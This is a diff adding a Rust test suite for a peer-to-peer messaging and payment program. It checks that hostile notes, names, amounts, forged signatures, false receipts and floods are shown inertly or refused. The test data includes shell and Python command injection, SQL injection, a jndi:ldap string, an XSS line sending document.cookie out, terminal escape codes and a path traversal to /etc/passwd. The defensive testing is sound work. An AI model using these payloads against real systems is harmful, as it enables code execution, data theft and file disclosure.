@@ -1,0 +1,239 @@
+//! What can be written to somebody, and what must not come of it.
+
+use crate::support::{Forge, Lab, RawPeer, so, wait_until};
+use crate::{SOON, Target};
+use raclette::canonical::CappedText;
+use raclette::chain::transaction::Note;
+use raclette::chain::{Action, Amount, EncodedTransaction};
+use raclette::http::views::NoteView;
+use raclette::keys::{MAX_NOTE_TEXT, SecretKey, Signature};
+use raclette::protocol::delivery::rows::SendState;
+use raclette::wire::{Message, ReceiptStatement, Verdict};
+use std::fs;
+
+/// Texts that made other programs run what they were sent, or fail at it.
+const HOSTILE: [&str; 10] = [
+    "__import__('os').system('touch owned')",
+    "$(touch owned); `touch owned` | sh",
+    "'; DROP TABLE members; --",
+    "{{7*7}} ${jndi:ldap://127.0.0.1/x} %n%n%s",
+    "<script>fetch('//127.0.0.1/'+document.cookie)</script>",
+    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}drah",
+    "line one\r\nline two\n\u{0}after a zero",
+    "../../../../etc/passwd",
+    "\u{feff}ａ\u{301}👩‍👩‍👧‍👦",
+    "[[[[[[[[[[[[[[[[[[[[{\"a\":1e999}",
+];
+
+#[test]
+fn attack_received_text_is_shown_and_nothing_else() {
+    let lab = Lab::start();
+    let [alice, bob] = lab.peers(["alice", "bob"]);
+    alice.knows(&["bob"]);
+    for text in HOSTILE {
+        alice.write("bob", 0, Some(text));
+    }
+    bob.has_notes(&HOSTILE);
+    for command in ["inbox", "history"] {
+        let shown = bob.command([command]);
+        assert!(shown.status.success(), "{shown:?}");
+        let text = String::from_utf8(shown.stdout).unwrap();
+        let steers = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+        assert!(!text.contains(steers), "{text:?}");
+    }
+    let owned = fs::read_dir(lab.directory()).unwrap();
+    let mut names = owned.map(|entry| entry.unwrap().file_name());
+    assert!(names.all(|name| name != "owned"));
+    assert!(!std::path::Path::new("owned").exists());
+}
+
+#[test]
+fn attack_notes_of_any_length_arrive_and_longer_ones_are_refused() {
+    let lab = Lab::start();
+    let [alice, bob] = lab.peers(["alice", "bob"]);
+    alice.knows(&["bob"]);
+    let lengths = [1, 59, 60, 61, 64, 65, 255, 1_000, 4_097, MAX_NOTE_TEXT];
+    let texts = lengths.map(|length| "é".repeat(length / 2) + &"x".repeat(length % 2));
+    for text in &texts {
+        alice.write("bob", 0, Some(text));
+    }
+    bob.has_notes(&texts.each_ref().map(String::as_str));
+    for wrong in [String::new(), "x".repeat(MAX_NOTE_TEXT + 1)] {
+        let refused = alice.try_write("bob", 0, Some(&wrong)).unwrap_err();
+        assert_eq!(refused.status, 400, "{refused}");
+    }
+    // So long that the request itself is refused.
+    let refused = alice.try_write("bob", 0, Some(&"x".repeat(1 << 20)));
+    assert!(refused.is_err());
+}
+
+#[test]
+fn attack_names_and_amounts_that_are_commands_send_nothing() {
+    let lab = Lab::start();
+    let [alice, bob] = lab.peers(["alice", "bob"]);
+    alice.knows(&["bob"]);
+    alice.mine();
+    for name in [
+        "bob'; DROP TABLE members; --",
+        "' OR '1'='1",
+        "*",
+        "bob\u{0}",
+        "BOB",
+        "",
+    ] {
+        let refused = alice.try_write(name, 1, None).unwrap_err();
+        assert_eq!(refused.error.code, "unknown_member", "{refused}");
+    }
+    for amount in ["-5", "1.5", "1e3", "NaN", "0x10", "99999999999999999999"] {
+        let sent = alice.command(["send", "bob", amount]);
+        assert_eq!(sent.status.code(), Some(2), "{amount}: {sent:?}");
+    }
+    assert_eq!(alice.outbox().queued, 0);
+    assert_eq!(alice.history().entries, []);
+    assert_eq!(bob.inbox(), []);
+    assert_eq!(alice.balance("alice"), 50);
+}
+
+#[test]
+fn attack_only_what_its_sender_signed_is_taken_in() {
+    let target = Target::start();
+    target.alice.mine_blocks(2);
+    let forge = Forge::new(target.genesis.clone());
+    let alice = target.genesis.content.founder;
+    let key = |seed: u8| SecretKey::from_bytes([seed; 32]);
+    let signed = |seed, to, amount| {
+        EncodedTransaction::new(forge.payload(&key(seed), to, amount, 9).sign(&key(seed)))
+    };
+    let note = |seed: u8| {
+        let mut payload = forge.payload(&key(seed), alice, 0, 9);
+        payload.action = Action::Transfer {
+            to: alice,
+            amount: Amount(0),
+            note: Note::new(vec![7; 100]).unwrap(),
+        };
+        payload
+    };
+    let mut forged = note(71).sign(&key(71));
+    forged.signature = Signature([1; 64]);
+    let mut of_another = note(72);
+    of_another.sender = alice;
+    for (seed, delivered) in [
+        // The signature is never checked.
+        (71, EncodedTransaction::new(forged)),
+        // Another's name upon it.
+        (72, EncodedTransaction::new(of_another.sign(&key(72)))),
+        // Somebody else's mail.
+        (73, signed(74, alice, 1)),
+        (75, signed(75, key(76).public_key(), 1)),
+    ] {
+        let mut attacker = target.attacker(seed);
+        attacker.send(&Message::Deliver(delivered));
+        attacker.expect_close(SOON);
+    }
+    // A receipt for nothing, and one by another.
+    let mut attacker = target.attacker(77);
+    let statement = ReceiptStatement {
+        network: target.network(),
+        transaction: signed(77, alice, 1).id(),
+        recipient: key(77).public_key(),
+        verdict: Verdict::Accepted,
+        reason: CappedText::default(),
+        height: target.genesis.header.height,
+        block: target.network(),
+    };
+    attacker.send(&Message::Receipt(statement.sign(&key(77))));
+    attacker.expect_close(SOON);
+    assert_eq!(target.alice.inbox(), []);
+    assert_eq!(target.alice.open(), Vec::<String>::new());
+    target.assert_well();
+}
+
+#[test]
+fn attack_a_recipients_receipt_by_another_key_counts_for_nothing() {
+    let target = Target::start();
+    target.alice.mine_blocks(2);
+    let mut mallory = RawPeer::member(
+        target.alice.listen,
+        200,
+        target.network(),
+        &target.lab.tracker_key(),
+    );
+    let id = target.alice.write_when_known("mallory", 5);
+    let delivered = mallory.expect("a delivery", |message| match message {
+        Message::Deliver(transaction) => Some(transaction),
+        _ => None,
+    });
+    let statement = ReceiptStatement {
+        network: target.network(),
+        transaction: delivered.id(),
+        recipient: mallory.public_key(),
+        verdict: Verdict::Refused,
+        reason: CappedText::new("no").unwrap(),
+        height: target.genesis.header.height,
+        block: target.network(),
+    };
+    mallory.send(&Message::Receipt(
+        statement.sign(&SecretKey::from_bytes([9; 32])),
+    ));
+    mallory.send(&Message::Ping(1));
+    mallory.expect("an answer", |message| {
+        (message == Message::Pong(1)).then_some(())
+    });
+    assert_eq!(target.alice.sent(&id).state, SendState::Queued);
+}
+
+#[test]
+fn attack_a_flood_of_deliveries_ends_the_session_that_it_comes_from() {
+    let target = Target::start();
+    let mut attacker = target.attacker(81);
+    let (key, alice) = (
+        SecretKey::from_bytes([81; 32]),
+        target.genesis.content.founder,
+    );
+    let forge = Forge::new(target.genesis.clone());
+    // Of somebody without coins: each is answered, and none is kept.
+    for number in 0..2_000_u64 {
+        let mut payload = forge.payload(&key, alice, 1 + number, 9);
+        payload.salt.0[..8].copy_from_slice(&number.to_le_bytes());
+        let delivered = EncodedTransaction::new(payload.sign(&key));
+        attacker.send(&Message::Deliver(delivered));
+    }
+    let closed = attacker.expect_close(SOON);
+    assert!(closed.is_some_and(|why| why.contains("at once")));
+    assert_eq!(target.alice.inbox(), []);
+    target.assert_well();
+}
+
+#[test]
+fn attack_payments_and_rewards_of_one_block_are_all_paid() {
+    let lab = Lab::start();
+    let [alice, bob] = lab.peers(["alice", "bob"]);
+    alice.knows(&["bob"]);
+    let last = alice.mine_blocks(2);
+    bob.reaches(&last);
+    let paid: Vec<_> = (1..=10)
+        .map(|amount| alice.write("bob", amount, None))
+        .collect();
+    for id in &paid {
+        alice.sees(id, SendState::Open);
+    }
+    let last = bob.mine().id.to_string();
+    alice.reaches(&last);
+    for id in &paid {
+        alice.sees(id, SendState::Mined);
+    }
+    assert_eq!((alice.balance("alice"), alice.balance("bob")), (45, 105));
+    wait_until("all are there once", || {
+        let inbox = bob.inbox();
+        let amounts: Vec<_> = inbox.iter().map(|message| message.amount.0).collect();
+        so(
+            amounts == (1..=10).collect::<Vec<_>>(),
+            format!("{amounts:?}"),
+        )
+    });
+    assert!(
+        bob.inbox()
+            .iter()
+            .all(|message| message.note != Some(NoteView::Text(String::new())))
+    );
+}
